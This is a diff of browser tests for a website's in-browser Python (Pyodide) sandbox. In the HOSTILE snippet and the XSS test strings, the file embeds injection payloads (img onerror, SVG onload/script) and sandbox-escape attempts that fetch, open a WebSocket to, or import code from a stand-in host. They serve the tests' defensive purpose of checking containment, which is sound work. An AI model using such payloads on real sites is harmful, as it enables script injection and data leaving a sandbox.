@@ -1,16 +1,20 @@
 """The Python sandbox: Pyodide on a tap, from the site itself, and nowhere else."""
 
+import base64
 import io
+import json
 import re
+import zlib
 from collections.abc import Callable
 from contextlib import chdir, redirect_stdout
+from hashlib import sha256
 from pathlib import Path
 
 import pytest
-from playwright.sync_api import BrowserContext, Page, expect
+from playwright.sync_api import BrowserContext, Locator, Page, expect
 
-from tests.html import attribute, every, one, parsed
-from tests.site.support_site import EDITION, Watch, page_addresses
+from tests.html import attribute, every, one, parsed, words
+from tests.site.support_site import EDITION, ROOT, Watch, page_addresses
 
 PYODIDE = "/runtime/pyodide/"
 WHEEL = "/runtime/wheels/"
@@ -21,50 +25,211 @@ def test_the_snippet_gives_in_the_browser_what_it_gives_here(
     page: Page, watch: Watch, site: Path, tmp_path: Path
 ) -> None:
     page.goto("sandbox/", wait_until="networkidle")
-    run = page.get_by_role("button", name="Run")
-    expect(run).to_be_enabled()
+    button = page.get_by_role("button", name="Run")
+    expect(button).to_be_enabled()
     assert watch.requested(PYODIDE) + watch.requested(WHEEL) == [], "nothing is loaded before the tap"
 
     code = page.get_by_label("Your question")
     wanted = answer_here(code.input_value(), site, tmp_path)
     assert len(wanted.splitlines()) > 1
-    run.click()
-    expect(run).to_be_disabled()
+    button.click()
+    expect(button).to_be_disabled()
     expect(page.get_by_role("progressbar")).to_be_visible()
     expect(page.get_by_text(re.compile(r"Loading Python: \d+\.\d of \d+\.\d MB"))).to_be_visible(timeout=STARTING)
-    output = page.get_by_label("Output", exact=True)
-    expect(output).to_have_text(wanted, timeout=STARTING, use_inner_text=True)
+    shown = page.get_by_label("Output", exact=True)
+    expect(shown).to_have_text(wanted, timeout=STARTING, use_inner_text=True)
     expect(page.get_by_role("progressbar")).to_be_hidden()
     assert watch.requested(WHEEL), "the wheel comes from the site"
+    told = json.loads(page.locator(".sandbox").get_attribute("data-files") or "")
+    came = {url.split("/runtime/")[1] for url in watch.requested(PYODIDE) + watch.requested(WHEEL)}
+    assert came == set(told), "all that is loaded was weighed"
     loaded = len(watch.requests)
 
     code.fill("import calculators\nprint(calculators.names())\nprint(1 / 0)")
-    run.click()
-    expect(output).to_contain_text("ZeroDivisionError")
-    expect(output).to_contain_text("hit-odds")
-    expect(run).to_be_enabled()
+    button.click()
+    expect(shown).to_contain_text("ZeroDivisionError")
+    expect(shown).to_contain_text("hit-odds")
+    expect(button).to_be_enabled()
     code.fill("def broken(:")
-    run.click()
-    expect(output).to_contain_text("SyntaxError")
+    button.click()
+    expect(shown).to_contain_text("SyntaxError")
     code.fill('print("again", 6 * 7)')
-    run.click()
-    expect(output).to_have_text("again 42")
+    button.click()
+    expect(shown).to_have_text("again 42")
     code.fill('print("<img src=x onerror=alert()>")')
-    run.click()
-    expect(output).to_have_text("<img src=x onerror=alert()>")
+    button.click()
+    expect(shown).to_have_text("<img src=x onerror=alert()>")
     code.fill("print(answer)")
-    run.click()
-    expect(output).to_contain_text("NameError")  # every run starts afresh
+    button.click()
+    expect(shown).to_contain_text("NameError")  # every run starts afresh
     assert len(watch.requests) == loaded, "Python is loaded once"
 
 
 def answer_here(code: str, site: Path, folder: Path) -> str:
-    """Return what a snippet prints under CPython."""
+    """Return what a script prints under CPython."""
     (folder / "mechanics.json").write_bytes((site / EDITION / "api" / "mechanics.json").read_bytes())
     said = io.StringIO()
-    with chdir(folder), redirect_stdout(said):
+    with chdir(folder), redirect_stdout(said), pytest.MonkeyPatch.context() as patch:
+        patch.syspath_prepend(str(ROOT / "docs" / "assets"))
         exec(code, {"__name__": "__main__"})
     return said.getvalue()
+
+
+def run(page: Page, code: str = "") -> None:
+    """Run what is in the sandbox, or some code in its place, and wait for Python to be there."""
+    if code:
+        page.get_by_label("Your question").fill(code)
+    page.get_by_role("button", name="Run").click()
+    expect(status(page)).not_to_have_text(re.compile("Loading"), timeout=STARTING)
+
+
+def status(page: Page) -> Locator:
+    return page.locator(".sandbox__status")
+
+
+def output(page: Page) -> Locator:
+    return page.get_by_label("Output", exact=True)
+
+
+def shown_rows(page: Page) -> list[str]:
+    return [" | ".join(row.locator("th, td").all_inner_texts()) for row in output(page).locator("tr").all()]
+
+
+def test_the_examples_show_their_tables_and_chart_and_nothing_that_a_script_shows_runs(
+    page: Page, watch: Watch, site: Path, tmp_path: Path
+) -> None:
+    page.goto("sandbox/")
+    code = page.get_by_label("Your question")
+    for title, throws in (("Who can throw whom", 15), ("Best use of 12 AP", 0)):
+        page.get_by_role("button", name=title).click()
+        wanted = [line for line in answer_here(code.input_value(), site, tmp_path).splitlines() if " | " in line]
+        run(page)
+        expect(status(page)).to_have_text("Done.")
+        assert shown_rows(page) == wanted
+        if throws:
+            # Each of five Classes throws its own and every smaller one.
+            assert len(re.findall(r"\| \d", "\n".join(wanted))) == throws
+    page.get_by_role("button", name="What a ruling changes").click()
+    run(page)
+    chart = output(page).get_by_role("img")
+    expect(chart).to_have_attribute("alt", re.compile("each reading"))
+    page.wait_for_function("document.querySelector('.sandbox__chart').naturalWidth > 100")
+    expect(output(page)).to_contain_text("with 20 copies")
+    expect(output(page)).to_be_in_viewport()
+
+    run(page, HOSTILE)
+    expect(status(page)).to_have_text("Done.")
+    expect(output(page).get_by_role("img")).to_be_attached()
+    expect(output(page).get_by_role("columnheader")).to_have_text(["<b>x</b>"])
+    expect(output(page).get_by_role("cell")).to_have_text(["<img src=x onerror=alert()>"])
+    assert output(page).locator("svg, script, b").count() == 0
+    expect(output(page)).to_contain_text("kept in")
+    assert watch.requested("elsewhere.example") == []
+
+
+HOSTILE = """
+import js
+import show
+
+show.table([{"<b>x</b>": "<img src=x onerror=alert()>"}])
+show.chart('<svg xmlns="http://www.w3.org/2000/svg" onload="alert()"><script>alert()</script>'
+           '<image href="https://elsewhere.example/x.png"/></svg>')
+for way in (lambda: js.fetch("https://elsewhere.example/"), lambda: js.eval("1"), lambda: js.WebSocket.new("wss://elsewhere.example"),
+            lambda: js.Object.constructor("return import('https://elsewhere.example/x.js')")()):
+    try:
+        way()
+        print("got out")
+        break
+    except Exception:
+        pass
+else:
+    print("kept in")
+"""
+
+
+def test_a_fault_is_said_as_one_and_stop_ends_what_never_would(page: Page) -> None:
+    page.goto("sandbox/")
+    stop = page.get_by_role("button", name="Stop")
+    expect(stop).to_be_disabled()
+    run(page, "print('before')\nprint(1 / 0)")
+    expect(page.get_by_role("alert")).to_have_text("ZeroDivisionError: division by zero")
+    expect(page.get_by_role("alert")).to_be_in_viewport()
+    expect(status(page)).to_have_text("Stopped by a fault.")
+    expect(output(page)).to_contain_text("before")
+
+    run(page, "while True:\n    print('more')")
+    expect(output(page)).to_contain_text("more than this page can show")
+    expect(page.get_by_role("alert")).to_be_hidden()
+    stop.click()
+    expect(status(page)).to_have_text("Stopped. The next run loads Python again.")
+    expect(stop).to_be_disabled()
+    run(page, "print(6 * 7)")
+    expect(output(page)).to_have_text("42")
+    expect(status(page)).to_have_text("Done.")
+
+
+def test_a_script_that_came_by_link_waits_for_a_tap_and_says_where_it_came_from(
+    page: Page, watch: Watch, new_context: Callable[..., BrowserContext]
+) -> None:
+    page.goto("sandbox/")
+    script = 'print("5+ \N{EN DASH} <b>")\n'
+    page.get_by_label("Your question").fill(script)
+    page.get_by_role("button", name="Copy a link").click()
+    expect(page.locator(".sandbox__said")).to_contain_text("link is")
+
+    other = new_context("phone").new_page()
+    other.goto(page.url)
+    expect(other.get_by_label("Your question")).to_have_value(script)
+    expect(other.get_by_text("This script came by a link.")).to_be_visible()
+    assert watch.requested(PYODIDE) == [], "nothing runs before the tap"
+    other.get_by_role("button", name="Best use of 12 AP").click()
+    expect(other.get_by_text("This script came by a link.")).to_be_hidden()
+
+    page.get_by_label("Your question").fill("".join(sha256(bytes([n])).hexdigest() for n in range(256)))
+    page.get_by_role("button", name="Copy a link").click()
+    expect(page.locator(".sandbox__said")).to_contain_text("too long for a link")
+
+
+def raw_deflated(content: bytes) -> str:
+    squeezed = zlib.compressobj(wbits=-15)
+    packed = squeezed.compress(content) + squeezed.flush()
+    return base64.urlsafe_b64encode(packed).decode().rstrip("=")
+
+
+def test_a_broken_or_hostile_link_is_said_and_changes_nothing(page: Page) -> None:
+    page.goto("sandbox/")
+    first = page.get_by_label("Your question").input_value()
+    bad = [
+        "",
+        "%",
+        "!!!!",
+        "AAAA",
+        "<script>alert()</script>",
+        raw_deflated(b"\xff\xfe"),
+        raw_deflated(b" " * 5_000_000),
+    ]
+    for letters in [*bad, "A" * 9000]:
+        page.goto("about:blank")
+        page.goto(f"sandbox/#script={letters}")
+        expect(page.locator(".sandbox__said")).to_contain_text("cannot be read")
+        expect(page.get_by_label("Your question")).to_have_value(first)
+
+
+def test_scripts_are_kept_by_name_until_they_are_deleted(page: Page) -> None:
+    page.goto("sandbox/")
+    page.evaluate("localStorage.setItem('sandbox-scripts', '[1, null')")
+    page.reload()
+    page.get_by_label("Your question").fill("print(1)")
+    page.get_by_label("Name of this script").fill("<i>Mine</i>")
+    page.get_by_role("button", name="Keep on this device").click()
+    expect(page.locator(".sandbox__said")).to_have_text("<i>Mine</i> is kept on this device.")
+    page.reload()
+    page.get_by_role("button", name="<i>Mine</i>", exact=True).click()
+    expect(page.get_by_label("Your question")).to_have_value("print(1)")
+    page.get_by_role("button", name="Delete <i>Mine</i>").click()
+    expect(page.get_by_label("Scripts kept").get_by_role("listitem")).to_have_count(0)
+    page.reload()
+    expect(page.get_by_label("Scripts kept").get_by_role("listitem")).to_have_count(0)
 
 
 @pytest.mark.own_context
@@ -72,10 +237,9 @@ def test_pyodide_that_cannot_load_is_reported_and_can_be_tried_again(page: Page,
     watch.expected = ["pyodide", "net::ERR_FAILED"]
     page.context.route(f"**{PYODIDE}**", lambda route: route.abort())
     page.goto("sandbox/")
-    run = page.get_by_role("button", name="Run")
-    run.click()
-    expect(page.locator(".sandbox__status")).to_contain_text("could not be loaded")
-    expect(run).to_be_enabled()
+    page.get_by_role("button", name="Run").click()
+    expect(status(page)).to_contain_text("could not be loaded")
+    expect(page.get_by_role("button", name="Run")).to_be_enabled()
 
 
 def test_without_scripts_the_sandbox_says_that_it_needs_them(new_context: Callable[..., BrowserContext]) -> None:
@@ -102,10 +266,10 @@ def test_no_page_names_pyodide_among_what_it_loads(site: Path) -> None:
             assert "runtime/pyodide" not in " ".join(every(parsed(path), name))
 
 
-def test_the_wheel_is_part_of_the_site_and_of_the_size_the_sandbox_says(site: Path) -> None:
-    box = one(parsed(site / EDITION / "sandbox" / "index.html"), "div.sandbox")
-    wheel = site / "runtime" / "wheels" / attribute(box, "data-wheel")
-    assert wheel.is_file()
-    files = (site / "runtime" / "pyodide").iterdir()
-    pyodide = sum(path.stat().st_size for path in files if path.suffix in (".wasm", ".zip"))
-    assert int(attribute(box, "data-bytes")) >= pyodide + wheel.stat().st_size
+def test_what_python_weighs_is_said_and_is_what_the_site_holds(site: Path) -> None:
+    page = parsed(site / EDITION / "sandbox" / "index.html")
+    files = json.loads(attribute(one(page, "div.sandbox"), "data-files"))
+    weights = {name: (site / "runtime" / name).stat().st_size for name in files}
+    assert files == weights
+    assert {Path(name).suffix for name in files} >= {".wasm", ".zip", ".whl", ".js", ".mjs"}
+    assert f"loads {sum(weights.values()) / 1e6:.1f} MB of Python" in words(one(page, "div.sandbox"))
